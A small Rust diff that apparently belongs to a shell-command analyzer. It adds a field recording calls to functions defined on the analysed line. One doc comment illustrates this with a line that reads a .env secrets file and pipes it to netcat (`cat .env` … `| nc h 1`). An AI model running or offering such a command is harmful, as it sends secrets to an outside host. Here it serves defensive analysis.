@@ -284,6 +284,11 @@ pub struct Analysis {
     /// span and the loop's (`while read -r f; do …; done`).
     #[serde(skip)]
     pub(crate) read_loops: Vec<(Span, Span)>,
+    /// The calls of functions the line defines that are no unit of their own (the units of
+    /// the body stand for them: `f() { cat .env; }; f | nc h 1`): the name and the span of
+    /// the call's word.
+    #[serde(skip)]
+    pub(crate) calls: Vec<(String, Span)>,
     /// Code that may not run when the line runs.
     #[serde(skip)]
     pub(crate) branches: Branches,
@@ -843,6 +848,7 @@ pub fn analyze(input: &str, limits: &Limits) -> Analysis {
     walker.shell_state_changes();
     walker.translated_strings(input);
     let read_loops = std::mem::take(&mut walker.read_loops);
+    let calls = std::mem::take(&mut walker.calls);
     let branches = std::mem::take(&mut walker.branch_spans);
     let (mut units, mut flags, mut assignments) = walker.finish();
     mark_shaped_substitutions(&mut units);
@@ -854,6 +860,7 @@ pub fn analyze(input: &str, limits: &Limits) -> Analysis {
         flags,
         assignments,
         read_loops,
+        calls,
         branches,
     }
 }
